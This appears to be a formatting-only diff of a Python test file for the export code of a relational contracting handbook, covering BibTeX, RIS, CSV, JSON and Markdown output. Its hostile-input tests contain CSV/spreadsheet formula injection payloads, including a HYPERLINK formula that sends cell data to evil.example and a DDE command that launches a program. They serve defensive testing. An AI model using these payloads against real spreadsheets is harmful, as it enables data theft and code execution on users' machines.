@@ -82,11 +82,11 @@ def read_bibtex(text: str) -> dict[str, tuple[str, dict[str, str]]]:
         head = re.match(r"@(\w+)\{([A-Za-z][A-Za-z0-9.\-]*),\s*", rest)
         assert head, rest[:80]
         assert head[2] not in entries, head[2]
-        rest, fields = rest[head.end():], {}
+        rest, fields = rest[head.end() :], {}
         while not rest.startswith("}"):
             name = re.match(r"([a-z]+) = ", rest)
             assert name and name[1] not in fields, rest[:80]
-            rest = rest[name.end():]
+            rest = rest[name.end() :]
             if rest[0] in '{"':
                 depth, ends = 0, 0
                 for at, character in enumerate(rest[1:], 1):
@@ -96,7 +96,7 @@ def read_bibtex(text: str) -> dict[str, tuple[str, dict[str, str]]]:
                     depth += {"{": 1, "}": -1}.get(character, 0)
                     assert depth >= 0, rest[:80]
                 assert ends, f"no end: {rest[:80]}"
-                value, rest = rest[1:ends], rest[ends + 1:]
+                value, rest = rest[1:ends], rest[ends + 1 :]
             else:
                 macro = re.match("jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec", rest)
                 assert macro, rest[:40]
@@ -114,10 +114,13 @@ def from_latex(value: str) -> str:
     """The text that LaTeX would set. Raises where it would see a command, a comment or mathematics."""
     out, named = "", {"backslash": "\\", "braceleft": "{", "braceright": "}", "asciitilde": "~", "asciicircum": "^"}
     while value:
-        found = re.match(r"\\text(backslash|braceleft|braceright|asciitilde|asciicircum)\{\}|\\([$&#%_])|[{}]|([^\\${}&#%_~^])", value)
+        found = re.match(
+            r"\\text(backslash|braceleft|braceright|asciitilde|asciicircum)\{\}|\\([$&#%_])|[{}]|([^\\${}&#%_~^])",
+            value,
+        )
         assert found, f"LaTeX would not set this as text: {value[:30]}"
         out += named[found[1]] if found[1] else found[2] or found[3] or ""
-        value = value[found.end():]
+        value = value[found.end() :]
     return out
 
 
@@ -148,9 +151,40 @@ def one_line(text: str | None) -> str:
     return re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\s]+", " ", plain(text or "")).strip()
 
 
-KNOWN = {"$schema", "$ref", "$defs", "type", "properties", "required", "additionalProperties", "items", "enum", "const", "anyOf", "pattern", "format", "minimum",
-         "maximum", "minItems", "minLength", "maxLength", "propertyNames", "patternProperties", "title", "description", "default"}
-TYPES = {"object": dict, "array": list, "string": str, "integer": int, "number": (int, float), "boolean": bool, "null": type(None)}
+KNOWN = {
+    "$schema",
+    "$ref",
+    "$defs",
+    "type",
+    "properties",
+    "required",
+    "additionalProperties",
+    "items",
+    "enum",
+    "const",
+    "anyOf",
+    "pattern",
+    "format",
+    "minimum",
+    "maximum",
+    "minItems",
+    "minLength",
+    "maxLength",
+    "propertyNames",
+    "patternProperties",
+    "title",
+    "description",
+    "default",
+}
+TYPES = {
+    "object": dict,
+    "array": list,
+    "string": str,
+    "integer": int,
+    "number": (int, float),
+    "boolean": bool,
+    "null": type(None),
+}
 
 
 def misfit(value: Any, schema: dict[str, Any], whole: dict[str, Any], where: str = "") -> str:
@@ -161,12 +195,18 @@ def misfit(value: Any, schema: dict[str, Any], whole: dict[str, Any], where: str
     if "anyOf" in schema:
         tries = [misfit(value, option, whole, where) for option in schema["anyOf"]]
         return "" if "" in tries else tries[0]
-    if "type" in schema and (not isinstance(value, TYPES[schema["type"]]) or isinstance(value, bool) != (schema["type"] == "boolean")):
+    if "type" in schema and (
+        not isinstance(value, TYPES[schema["type"]]) or isinstance(value, bool) != (schema["type"] == "boolean")
+    ):
         return f"{where}: not {schema['type']}"
     if "enum" in schema and value not in schema["enum"]:
         return f"{where}: not in the list"
     if isinstance(value, str):
-        if "pattern" in schema and not re.search(schema["pattern"], value) or len(value) > schema.get("maxLength", len(value)):
+        if (
+            "pattern" in schema
+            and not re.search(schema["pattern"], value)
+            or len(value) > schema.get("maxLength", len(value))
+        ):
             return f"{where}: {value!r} is not in the right form"
         if schema.get("format") == "date" and not re.fullmatch(r"\d{4}-\d\d-\d\d", value):
             return f"{where}: not a date"
@@ -175,14 +215,26 @@ def misfit(value: Any, schema: dict[str, Any], whole: dict[str, Any], where: str
     if isinstance(value, list):
         if len(value) < schema.get("minItems", 0):
             return f"{where}: too few"
-        return next(filter(None, (misfit(item, schema["items"], whole, f"{where}/{index}") for index, item in enumerate(value))), "") if "items" in schema else ""
+        return (
+            next(
+                filter(
+                    None, (misfit(item, schema["items"], whole, f"{where}/{index}") for index, item in enumerate(value))
+                ),
+                "",
+            )
+            if "items" in schema
+            else ""
+        )
     if isinstance(value, dict):
         missing = set(schema.get("required", ())) - set(value)
         if missing:
             return f"{where}: {sorted(missing)} missing"
         for name, item in value.items():
             inner = schema.get("properties", {}).get(name)
-            inner = inner or next((found for pattern, found in schema.get("patternProperties", {}).items() if re.search(pattern, name)), None)
+            inner = inner or next(
+                (found for pattern, found in schema.get("patternProperties", {}).items() if re.search(pattern, name)),
+                None,
+            )
             inner = schema.get("additionalProperties", True) if inner is None else inner
             if inner is False or "propertyNames" in schema and misfit(name, schema["propertyNames"], whole):
                 return f"{where}/{name}: unknown"
@@ -218,30 +270,53 @@ def test_every_stamp_is_that_of_the_version(exported):
         digest = describe(site)["digest"]
         for name in ("handbook.json", "changes.json", "manifest.json"):
             stamp = json.loads(files[name])
-            assert (stamp["version"], stamp["digest"], stamp["licence"]) == (site.iteration.version, digest, "CC-BY-4.0")
+            assert (stamp["version"], stamp["digest"], stamp["licence"]) == (
+                site.iteration.version,
+                digest,
+                "CC-BY-4.0",
+            )
         if not site.iteration.is_draft:
             assert digest == site.iteration.about.digest
         assert digest in files["sources.bib"] and f"sha256:{digest}" in files["CITATION.cff"]
         pages, words = read_bibtex(files["pages.bib"]), site.library.paths[site.iteration.version]
-        assert len(pages) > 30 and all(f"iteration {site.iteration.version}" in fields["howpublished"] for _, fields in pages.values())
+        assert len(pages) > 30 and all(
+            f"iteration {site.iteration.version}" in fields["howpublished"] for _, fields in pages.values()
+        )
         assert len(pages) == sum(kind not in ("words", "sheet", "sources") for kind, _ in words.values())
         for name in TABLES:
             assert {row["iteration"] for row in rows_of(files[name])} <= {site.iteration.version}
 
 
 def test_the_same_data_gives_the_same_text_in_any_process(tmp_path):
-    program = ("import hashlib, pathlib, sys\nfrom macros.exporting import *\nfrom macros.site import open_sites\n"
-               "sites = open_sites(pathlib.Path(sys.argv[1]))\n"
-               "everything = [sorted({**export_version(s), **export_markdown(s)}.items()) for s in sites] + [export_root(sites)]\n"
-               "print(hashlib.sha256(repr(everything).encode()).hexdigest())")
-    printed = {subprocess.run([sys.executable, "-c", program, str(ROOT)], cwd=ROOT, env={**os.environ, "PYTHONHASHSEED": seed}, capture_output=True, text=True, check=True).stdout
-               for seed in ("1", "2")}
+    program = (
+        "import hashlib, pathlib, sys\nfrom macros.exporting import *\nfrom macros.site import open_sites\n"
+        "sites = open_sites(pathlib.Path(sys.argv[1]))\n"
+        "everything = [sorted({**export_version(s), **export_markdown(s)}.items()) for s in sites] + [export_root(sites)]\n"
+        "print(hashlib.sha256(repr(everything).encode()).hexdigest())"
+    )
+    printed = {
+        subprocess.run(
+            [sys.executable, "-c", program, str(ROOT)],
+            cwd=ROOT,
+            env={**os.environ, "PYTHONHASHSEED": seed},
+            capture_output=True,
+            text=True,
+            check=True,
+        ).stdout
+        for seed in ("1", "2")
+    }
     assert len(printed) == 1 and len(printed.pop()) == 65
 
 
 def test_the_commit_is_named_only_where_it_holds_the_words(scratch):
     def git(*words: str) -> str:
-        return subprocess.run(["git", "-c", "user.name=T", "-c", "user.email=t@example.invalid", *words], cwd=scratch.root, check=True, capture_output=True, text=True).stdout.strip()
+        return subprocess.run(
+            ["git", "-c", "user.name=T", "-c", "user.email=t@example.invalid", *words],
+            cwd=scratch.root,
+            check=True,
+            capture_output=True,
+            text=True,
+        ).stdout.strip()
 
     def commits() -> list[str | None]:
         return [json.loads(export_version(site)["data/handbook.json"])["commit"] for site in sites_of(scratch.root)]
@@ -269,11 +344,23 @@ def test_the_json_is_the_data_and_can_be_read_back(exported):
         for kind in model.ELEMENTS:
             there = getattr(read.elements, kind.replace("-", "_"))
             assert [item.id for item in there] == [item.id for item in iteration.of(kind)]
-            assert [item.model_dump(mode="json") for item in there] == [item.model_dump(mode="json") for item in iteration.of(kind)]
-        for there, here in ((read.terms, iteration.terms), (read.sources, iteration.sources), (read.changes, iteration.changes)):
-            assert {item.id: item.model_dump() for item in there} == {id_: item.model_dump() for id_, item in here.items()}
-        assert [workshop.model_dump() for workshop in read.workshops] == [workshop.model_dump() for workshop in site.library.workshops_in(iteration)]
-        assert [entry.id for entry in read.index if entry.kind == "activity"] == [activity.id for _, activity in iteration.activities()]
+            assert [item.model_dump(mode="json") for item in there] == [
+                item.model_dump(mode="json") for item in iteration.of(kind)
+            ]
+        for there, here in (
+            (read.terms, iteration.terms),
+            (read.sources, iteration.sources),
+            (read.changes, iteration.changes),
+        ):
+            assert {item.id: item.model_dump() for item in there} == {
+                id_: item.model_dump() for id_, item in here.items()
+            }
+        assert [workshop.model_dump() for workshop in read.workshops] == [
+            workshop.model_dump() for workshop in site.library.workshops_in(iteration)
+        ]
+        assert [entry.id for entry in read.index if entry.kind == "activity"] == [
+            activity.id for _, activity in iteration.activities()
+        ]
         ChangesFile.model_validate_json(files["changes.json"])
 
 
@@ -284,7 +371,12 @@ def test_the_json_is_complete_in_itself(exported):
         sources = {source.id for source in (*read.sources, *read.workshop_sources)}
         assert len(sources) == len(read.sources) + len(read.workshop_sources)
         named = [mention for workshop in read.workshops for mention in mentions(workshop)]
-        named += [mention for kind in model.ELEMENTS for item in getattr(read.elements, kind.replace("-", "_")) for mention in mentions(item)]
+        named += [
+            mention
+            for kind in model.ELEMENTS
+            for item in getattr(read.elements, kind.replace("-", "_"))
+            for mention in mentions(item)
+        ]
         assert {mention.id for mention in named if mention.kinds == ("source",)} <= sources
         assert {mention.id for mention in named if mention.kinds == ("term",)} <= {term.id for term in read.terms}
         assert set(read.led_to) == {item.id for workshop in read.workshops for item in workshop.feedback}
@@ -294,7 +386,11 @@ def test_the_json_is_complete_in_itself(exported):
 def test_one_line_is_what_the_page_is_described_by(exported):
     for site, files in exported:
         described = {page.id: page.description for page in site.pages if page.kind in model.ELEMENTS}
-        index = {entry["id"]: entry["one_line"] for entry in json.loads(files["handbook.json"])["index"] if entry["kind"] != "activity"}
+        index = {
+            entry["id"]: entry["one_line"]
+            for entry in json.loads(files["handbook.json"])["index"]
+            if entry["kind"] != "activity"
+        }
         assert index == described
 
 
@@ -343,20 +439,35 @@ def test_the_tables_say_what_the_json_says(exported):
         data = json.loads(files["handbook.json"])
         assert [{key: row[key] for key in data["index"][0]} for row in rows_of(files["elements.csv"])] == data["index"]
         sources = rows_of(files["sources.csv"])
-        assert [(row["id"], row["cited_by"]) for row in sources] == [(s["id"], who) for key, who in (("sources", "iteration"), ("workshop_sources", "workshops")) for s in data[key]]
+        assert [(row["id"], row["cited_by"]) for row in sources] == [
+            (s["id"], who)
+            for key, who in (("sources", "iteration"), ("workshop_sources", "workshops"))
+            for s in data[key]
+        ]
         for row, source in zip(sources, [*data["sources"], *data["workshop_sources"]]):
-            assert row["url"] == (source["url"] or "") and row["title"] == plain(source["title"]) and row["note"] == plain(source["note"] or "")
+            assert (
+                row["url"] == (source["url"] or "")
+                and row["title"] == plain(source["title"])
+                and row["note"] == plain(source["note"] or "")
+            )
             assert row["verified"] == (source["verified"] or "")
         feedback = [(item, workshop) for workshop in data["workshops"] for item in workshop["feedback"]]
         heard = rows_of(files["feedback.csv"])
-        assert [(row["id"], row["workshop"], row["status"], row["said"]) for row in heard] == [(f["id"], w["id"], f["status"], plain(f["said"])) for f, w in feedback]
+        assert [(row["id"], row["workshop"], row["status"], row["said"]) for row in heard] == [
+            (f["id"], w["id"], f["status"], plain(f["said"])) for f, w in feedback
+        ]
         assert [row["changes"] for row in heard] == ["; ".join(data["led_to"][f["id"]]) for f, _ in feedback]
         changes = rows_of(files["changes.csv"])
-        assert [(r["id"], r["kind"], r["elements"], r["why"]) for r in changes] == [(c["id"], c["kind"], "; ".join(c["elements"]), plain(c["why"])) for c in data["changes"]]
-        assert [(r["id"], r["term"], r["definition"]) for r in rows_of(files["glossary.csv"])] == [(t["id"], plain(t["term"]), plain(t["definition"])) for t in data["terms"]]
+        assert [(r["id"], r["kind"], r["elements"], r["why"]) for r in changes] == [
+            (c["id"], c["kind"], "; ".join(c["elements"]), plain(c["why"])) for c in data["changes"]
+        ]
+        assert [(r["id"], r["term"], r["definition"]) for r in rows_of(files["glossary.csv"])] == [
+            (t["id"], plain(t["term"]), plain(t["definition"])) for t in data["terms"]
+        ]
         cases = rows_of(files["case-studies.csv"])
         assert [(r["id"], r["value"], r["result"], r["evidence"]) for r in cases] == [
-            (c["id"], plain(c["value"]), c["result"], "; ".join(c["evidence"])) for c in data["elements"]["case-study"]]
+            (c["id"], plain(c["value"]), c["result"], "; ".join(c["evidence"])) for c in data["elements"]["case-study"]
+        ]
         assert all(row["sources"] for row in cases)
 
 
@@ -378,10 +489,14 @@ def test_every_address_leads_to_a_page_of_the_site(exported):
 
 
 def test_addresses_are_whole_once_the_site_has_one(sites):
-    known = Site(sites[0].library, sites[0].iteration, Project("https://example.org/repo", "https://example.org/guide/"))
+    known = Site(
+        sites[0].library, sites[0].iteration, Project("https://example.org/repo", "https://example.org/guide/")
+    )
     files = export_version(known)
     assert json.loads(files["data/handbook.json"])["address"] == "https://example.org/guide/0.1/"
-    assert all(row["address"].startswith("https://example.org/guide/0.1/") for row in rows_of(files["data/elements.csv"]))
+    assert all(
+        row["address"].startswith("https://example.org/guide/0.1/") for row in rows_of(files["data/elements.csv"])
+    )
 
 
 # -- differences -------------------------------------------------------------------------------------
@@ -400,15 +515,35 @@ def test_the_differences_are_those_of_the_comparison_and_each_has_its_reason(exp
         for row in told["differences"]:
             assert row["because"], f"{row['id']} has no reason"
             named |= {change["id"] for change in row["because"]}
-            assert [(f["name"], f["before"], f["after"]) for f in row["fields"]] == [(f.name, f.before, f.after) for f in real[row["id"]].fields]
+            assert [(f["name"], f["before"], f["after"]) for f in row["fields"]] == [
+                (f.name, f.before, f.after) for f in real[row["id"]].fields
+            ]
         assert named == {change["id"] for change in told["changes"]}
         assert told["summary"] == Counter(label for row in told["differences"] for label in row["changes"])
 
 
 def test_an_activity_that_comes_with_its_step_is_explained_by_the_steps_entry(scratch):
-    scratch.write("data/draft/steps/look-back.yml", {"id": "look-back", "title": "Look back", "order": 5, "in_one_line": "Look.", "why": "To learn.",
-                                                     "activities": [{"id": "ask-everybody", "title": "Ask everybody", "how": "Ask."}]})
-    scratch.write("data/draft/changes/look-back-comes.yml", {"id": "look-back-comes", "kind": "added", "elements": ["look-back"], "summary": "A step.", "why": "It was missing."})
+    scratch.write(
+        "data/draft/steps/look-back.yml",
+        {
+            "id": "look-back",
+            "title": "Look back",
+            "order": 5,
+            "in_one_line": "Look.",
+            "why": "To learn.",
+            "activities": [{"id": "ask-everybody", "title": "Ask everybody", "how": "Ask."}],
+        },
+    )
+    scratch.write(
+        "data/draft/changes/look-back-comes.yml",
+        {
+            "id": "look-back-comes",
+            "kind": "added",
+            "elements": ["look-back"],
+            "summary": "A step.",
+            "why": "It was missing.",
+        },
+    )
     told = json.loads(export_version(sites_of(scratch.root)[-1])["data/changes.json"])
     because = {row["id"]: [change["id"] for change in row["because"]] for row in told["differences"]}
     assert because["look-back"] == because["ask-everybody"] == ["look-back-comes"]
@@ -438,7 +573,9 @@ def test_bibtex_has_each_source_and_says_what_the_data_says(exported):
             assert fields.get("url", "") == (source["url"] or "")
             assert fields.get("year", "") == (source["date"] or "")[:4]
             assert ("author" in fields) == bool(source["authors"])
-            assert {"article": "journal", "book": "publisher", "techreport": "institution", "misc": "howpublished"}[kind] in fields
+            assert {"article": "journal", "book": "publisher", "techreport": "institution", "misc": "howpublished"}[
+                kind
+            ] in fields
             assert one_line(source["note"]) in from_latex(fields["annote"])
 
 
@@ -449,65 +586,127 @@ def test_ris_has_each_source_and_says_what_the_data_says(exported):
         assert [record["ID"][0] for record in records] == sorted(sources)
         for record in records:
             source = sources[record["ID"][0]]
-            assert record["TI"] == [one_line(source["title"])] and record.get("UR", []) == ([source["url"]] if source["url"] else [])
+            assert record["TI"] == [one_line(source["title"])] and record.get("UR", []) == (
+                [source["url"]] if source["url"] else []
+            )
             assert record.get("PY", []) == ([source["date"][:4]] if source["date"] else [])
             assert len(record.get("AU", [])) == len(people(source["authors"])[0])
 
 
-@pytest.mark.parametrize("authors, expected", [
-    ("Oliver Hart and John Moore", ([("Hart", "Oliver"), ("Moore", "John")], False)),
-    ("F. Rosenbach, F-A. van Lier, E. Carter and M. Patouna", ([("Rosenbach", "F."), ("van Lier", "F-A."), ("Carter", "E."), ("Patouna", "M.")], False)),
-    ("David M. Van Slyke", ([("Van Slyke", "David M.")], False)),
-    ("Samantha Redgate and others", ([("Redgate", "Samantha")], True)),
-    ("Imogen Blood and Associates", ([("Imogen Blood and Associates", "")], False)),
-    ("Department for Culture, Media and Sport", ([("Department for Culture, Media and Sport", "")], False)),
-    ("KPMG", ([("KPMG", "")], False)),
-    ("Van Gogh", ([("Gogh", "Van")], False)),
-    (None, ([], False)),
-])
+@pytest.mark.parametrize(
+    "authors, expected",
+    [
+        ("Oliver Hart and John Moore", ([("Hart", "Oliver"), ("Moore", "John")], False)),
+        (
+            "F. Rosenbach, F-A. van Lier, E. Carter and M. Patouna",
+            ([("Rosenbach", "F."), ("van Lier", "F-A."), ("Carter", "E."), ("Patouna", "M.")], False),
+        ),
+        ("David M. Van Slyke", ([("Van Slyke", "David M.")], False)),
+        ("Samantha Redgate and others", ([("Redgate", "Samantha")], True)),
+        ("Imogen Blood and Associates", ([("Imogen Blood and Associates", "")], False)),
+        ("Department for Culture, Media and Sport", ([("Department for Culture, Media and Sport", "")], False)),
+        ("KPMG", ([("KPMG", "")], False)),
+        ("Van Gogh", ([("Gogh", "Van")], False)),
+        (None, ([], False)),
+    ],
+)
 def test_authors_are_told_apart(authors, expected):
     assert people(authors) == expected
 
 
-@pytest.mark.parametrize("publisher, kind, ris_kind", [
-    ("Local Government Studies 33(4)", "article", "JOUR"), ("Journal of Management in Engineering", "article", "JOUR"), ("Cambridge University Press", "book", "BOOK"),
-    ("National Bureau of Economic Research, working paper 19001", "techreport", "RPRT"), ("Delft University of Technology", "misc", "GEN"),
-    ("Journal article, volume 24 number 2, pages 57 to 78", "misc", "GEN"), ("Not shown in the copy read", "misc", "GEN"),
-])
+@pytest.mark.parametrize(
+    "publisher, kind, ris_kind",
+    [
+        ("Local Government Studies 33(4)", "article", "JOUR"),
+        ("Journal of Management in Engineering", "article", "JOUR"),
+        ("Cambridge University Press", "book", "BOOK"),
+        ("National Bureau of Economic Research, working paper 19001", "techreport", "RPRT"),
+        ("Delft University of Technology", "misc", "GEN"),
+        ("Journal article, volume 24 number 2, pages 57 to 78", "misc", "GEN"),
+        ("Not shown in the copy read", "misc", "GEN"),
+    ],
+)
 def test_research_is_called_an_article_or_a_book_only_where_the_publisher_says_so(publisher, kind, ris_kind):
     source = Source(id="a-source", title="T", publisher=publisher, kind="research", read="whole")
-    assert bibtex_of(source).startswith(f"@{kind}{{a-source,") and read_ris(ris_of(source, "x"))[0].get("TY", [ris_kind]) == [ris_kind]
+    assert bibtex_of(source).startswith(f"@{kind}{{a-source,") and read_ris(ris_of(source, "x"))[0].get(
+        "TY", [ris_kind]
+    ) == [ris_kind]
     assert f"TY  - {ris_kind}\r\n" in ris_of(source, "x")
 
 
 def test_volume_and_number_are_told_apart():
-    source = Source(id="a-source", title="T", publisher="Journal of Public Administration 20 (supplement 1)", kind="research", read="whole", date="2010-03-05")
+    source = Source(
+        id="a-source",
+        title="T",
+        publisher="Journal of Public Administration 20 (supplement 1)",
+        kind="research",
+        read="whole",
+        date="2010-03-05",
+    )
     fields = read_bibtex(bibtex_of(source))["a-source"][1]
-    assert (fields["journal"], fields["volume"], fields["number"]) == ("Journal of Public Administration", "20", "supplement 1")
+    assert (fields["journal"], fields["volume"], fields["number"]) == (
+        "Journal of Public Administration",
+        "20",
+        "supplement 1",
+    )
     assert (fields["year"], fields["month"], fields["day"]) == ("2010", "mar", "5")
     record = read_ris(ris_of(source, "x"))[0]
-    assert (record["T2"], record["VL"], record["IS"], record["DA"]) == (["Journal of Public Administration"], ["20"], ["supplement 1"], ["2010/03/05/"])
+    assert (record["T2"], record["VL"], record["IS"], record["DA"]) == (
+        ["Journal of Public Administration"],
+        ["20"],
+        ["supplement 1"],
+        ["2010/03/05/"],
+    )
 
 
 def test_the_citation_file_has_what_its_format_asks_for(exported):
     for site, files in exported:
         values = yaml.safe_load(files["CITATION.cff"])
-        assert values["cff-version"] == "1.2.0" and values["message"] and values["title"] and values["authors"][0]["name"]
-        assert values["type"] == "dataset" and values["version"] == site.iteration.version and values["license"] == "CC-BY-4.0"
+        assert (
+            values["cff-version"] == "1.2.0" and values["message"] and values["title"] and values["authors"][0]["name"]
+        )
+        assert (
+            values["type"] == "dataset"
+            and values["version"] == site.iteration.version
+            and values["license"] == "CC-BY-4.0"
+        )
         assert values.get("date-released") == site.iteration.about.released
-        assert set(values) <= {"abstract", "authors", "cff-version", "commit", "date-released", "identifiers", "keywords", "license", "license-url", "message",
-                               "repository-code", "title", "type", "url", "version"}
+        assert set(values) <= {
+            "abstract",
+            "authors",
+            "cff-version",
+            "commit",
+            "date-released",
+            "identifiers",
+            "keywords",
+            "license",
+            "license-url",
+            "message",
+            "repository-code",
+            "title",
+            "type",
+            "url",
+            "version",
+        }
 
 
 def test_a_page_can_be_cited(sites):
     known = Site(sites[0].library, sites[0].iteration, Project("", "https://example.org/guide/"))
     reference, bibtex = cite_page(known, "Trust & {audit}", "tensions/trust-and-audit/")
     released = known.iteration.about.released
-    assert reference.startswith("The contributors to the Relational Contracting Handbook, “Trust & {audit}”, Relational Contracting Handbook, iteration 0.1, ") and str(released.year) in reference
+    assert (
+        reference.startswith(
+            "The contributors to the Relational Contracting Handbook, “Trust & {audit}”, Relational Contracting Handbook, iteration 0.1, "
+        )
+        and str(released.year) in reference
+    )
     assert reference.endswith(" https://example.org/guide/0.1/tensions/trust-and-audit/")
     ((key, (kind, fields)),) = read_bibtex(bibtex).items()
     assert key == "relational-contracting-handbook-0.1-tensions-trust-and-audit" and kind == "misc"
-    assert from_latex(fields["title"]) == "Trust & {audit}" and fields["url"] == "https://example.org/guide/0.1/tensions/trust-and-audit/"
+    assert (
+        from_latex(fields["title"]) == "Trust & {audit}"
+        and fields["url"] == "https://example.org/guide/0.1/tensions/trust-and-audit/"
+    )
     assert fields["year"] == str(released.year)
 
 
@@ -521,7 +720,7 @@ def test_a_draft_is_cited_as_a_draft_and_without_an_address_none_is_made_up(site
 # -- hostile words -----------------------------------------------------------------------------------
 
 HOSTILE = {
-    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "formula behind a space": "+ 1+1",
     "formula behind an apostrophe": "'=1+1",
     "minus": "-2+3+cmd|' /C calc'!A0",
@@ -547,18 +746,82 @@ def poisoned(request, tmp_path_factory) -> tuple[str, list[Site]]:
     from conftest import Scratch
 
     scratch, poison = Scratch(tmp_path_factory.mktemp("poisoned")), HOSTILE[request.param]
-    scratch.change("data/draft/iteration.yml", lambda d: d.update(title=poison, summary=f"{poison}\n\n{poison}", question=poison))
-    scratch.change("data/draft/tools/learning-log.yml", lambda d: d.update(title=poison, in_one_line=poison, keywords=[poison]))
-    scratch.change("data/draft/steps/shape-the-approach.yml", lambda d: d["activities"][0].update(title=poison, outcome=poison))
-    scratch.change("data/draft/sources.yml", lambda d: d.append({"id": "a-hostile-source", "title": poison, "authors": f"A. Name and {poison}", "publisher": poison, "kind": "research",
-                                                                "read": "extract", "note": poison, "read_via": poison, "url": "https://example.org/{a}\\b%20c?d=1&e=#f_g"}))
-    scratch.write("data/draft/glossary.yml", [{"id": "hostile", "term": poison, "definition": poison, "also": [poison], "not_to_confuse": [{"term": poison, "difference": poison}]}])
-    scratch.write("data/draft/changes/a-hostile.yml", {"id": "a-hostile", "kind": "reworded", "elements": ["learning-log"], "summary": poison, "why": f"{poison}\n\n{poison}", "order": 1})
-    scratch.change("data/workshops/soc24-croissants-and-collaborations.yml", lambda d: d.update(title=poison) or d["feedback"][0].update(theme=poison, said=f"One.\n\n{poison}"))
-    scratch.write("data/draft/case-studies/a-case.yml", {
-        "id": "a-case", "title": poison, "place": poison, "country": poison, "sector": poison, "themes": [poison], "commissioners": poison, "providers": poison, "years": poison,
-        "value": poison, "length": poison, "route": poison, "form": "alliance", "result": "mixed", "opening": poison, "problem": poison, "what_happened": poison,
-        "evidence": ["self-reported"], "evidence_note": poison})
+    scratch.change(
+        "data/draft/iteration.yml", lambda d: d.update(title=poison, summary=f"{poison}\n\n{poison}", question=poison)
+    )
+    scratch.change(
+        "data/draft/tools/learning-log.yml", lambda d: d.update(title=poison, in_one_line=poison, keywords=[poison])
+    )
+    scratch.change(
+        "data/draft/steps/shape-the-approach.yml", lambda d: d["activities"][0].update(title=poison, outcome=poison)
+    )
+    scratch.change(
+        "data/draft/sources.yml",
+        lambda d: d.append(
+            {
+                "id": "a-hostile-source",
+                "title": poison,
+                "authors": f"A. Name and {poison}",
+                "publisher": poison,
+                "kind": "research",
+                "read": "extract",
+                "note": poison,
+                "read_via": poison,
+                "url": "https://example.org/{a}\\b%20c?d=1&e=#f_g",
+            }
+        ),
+    )
+    scratch.write(
+        "data/draft/glossary.yml",
+        [
+            {
+                "id": "hostile",
+                "term": poison,
+                "definition": poison,
+                "also": [poison],
+                "not_to_confuse": [{"term": poison, "difference": poison}],
+            }
+        ],
+    )
+    scratch.write(
+        "data/draft/changes/a-hostile.yml",
+        {
+            "id": "a-hostile",
+            "kind": "reworded",
+            "elements": ["learning-log"],
+            "summary": poison,
+            "why": f"{poison}\n\n{poison}",
+            "order": 1,
+        },
+    )
+    scratch.change(
+        "data/workshops/soc24-croissants-and-collaborations.yml",
+        lambda d: d.update(title=poison) or d["feedback"][0].update(theme=poison, said=f"One.\n\n{poison}"),
+    )
+    scratch.write(
+        "data/draft/case-studies/a-case.yml",
+        {
+            "id": "a-case",
+            "title": poison,
+            "place": poison,
+            "country": poison,
+            "sector": poison,
+            "themes": [poison],
+            "commissioners": poison,
+            "providers": poison,
+            "years": poison,
+            "value": poison,
+            "length": poison,
+            "route": poison,
+            "form": "alliance",
+            "result": "mixed",
+            "opening": poison,
+            "problem": poison,
+            "what_happened": poison,
+            "evidence": ["self-reported"],
+            "evidence_note": poison,
+        },
+    )
     return poison.strip(), sites_of(scratch.root)
 
 
@@ -575,7 +838,9 @@ def test_hostile_words_survive_in_json_and_tables(poisoned):
     source = next(row for row in tables["sources.csv"] if row["id"] == "a-hostile-source")
     assert source["title"] == source["note"] == shown and source["url"] == "https://example.org/{a}\\b%20c?d=1&e=#f_g"
     assert tables["glossary.csv"][0]["definition"] == shown and tables["changes.csv"][0]["summary"] == shown
-    assert tables["feedback.csv"][0]["said"] == re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", plain(f"One.\n\n{poison}"))
+    assert tables["feedback.csv"][0]["said"] == re.sub(
+        r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", plain(f"One.\n\n{poison}")
+    )
     assert tables["case-studies.csv"][0]["value"] == shown
     assert json.loads(files["data/changes.json"])["changes"][0]["summary"] == poison
 
@@ -612,14 +877,21 @@ def test_hostile_words_are_harmless_in_markdown(poisoned):
     config = yaml.safe_load(files["mkdocs.yml"])
     assert "Draft" not in config["nav"] and config["nav"][0] == {"Home": "index.md"}
     extensions = [next(iter(each)) if isinstance(each, dict) else each for each in config["markdown_extensions"]]
-    for path in ("docs/tools/learning-log.md", "docs/case-studies/a-case.md", "docs/iterations/0.2.md", "docs/glossary.md"):
+    for path in (
+        "docs/tools/learning-log.md",
+        "docs/case-studies/a-case.md",
+        "docs/iterations/0.2.md",
+        "docs/glossary.md",
+    ):
         front, body = re.fullmatch(r"---\n(.*?)\n---\n\n(.*)", files[path], re.S).groups()
         assert set(yaml.safe_load(front)) <= {"title", "description"}
         tree = lxml.html.fromstring(f"<div>{markdown.markdown(body, extensions=extensions)}</div>")
         assert not list(tree.iter("script", "img"))
         assert all(not (link.get("href") or "").startswith("javascript") for link in tree.iter("a"))
         seen = " ".join(tree.text_content().split())
-        assert " ".join(re.sub(r"[\x00-\x1f]", "", typeset(plain(poison))).split())[:12] in re.sub(r"[\x00-\x1f]", "", seen), path
+        assert " ".join(re.sub(r"[\x00-\x1f]", "", typeset(plain(poison))).split())[:12] in re.sub(
+            r"[\x00-\x1f]", "", seen
+        ), path
 
 
 @settings(max_examples=500, deadline=None)
@@ -644,16 +916,29 @@ def test_the_feed_is_atom_with_each_iteration_and_change(sites):
     assert tree.findtext(f"{ATOM}author/{ATOM}name")
     entries = tree.findall(f"{ATOM}entry")
     ids = [entry.findtext(f"{ATOM}id") for entry in entries]
-    assert len(set(ids)) == len(ids) == sum(1 + len(site.iteration.changes) for site in sites) + len(sites[0].handbook.errata)
-    assert all(entry.find(f"{ATOM}link").get("rel") == "alternate" and entry.find(f"{ATOM}content").get("type") == "xhtml" for entry in entries)
+    assert (
+        len(set(ids))
+        == len(ids)
+        == sum(1 + len(site.iteration.changes) for site in sites) + len(sites[0].handbook.errata)
+    )
+    assert all(
+        entry.find(f"{ATOM}link").get("rel") == "alternate" and entry.find(f"{ATOM}content").get("type") == "xhtml"
+        for entry in entries
+    )
     dates = [entry.findtext(f"{ATOM}updated") for entry in entries]
     assert dates == sorted(dates, reverse=True) and tree.findtext(f"{ATOM}updated") == dates[0]
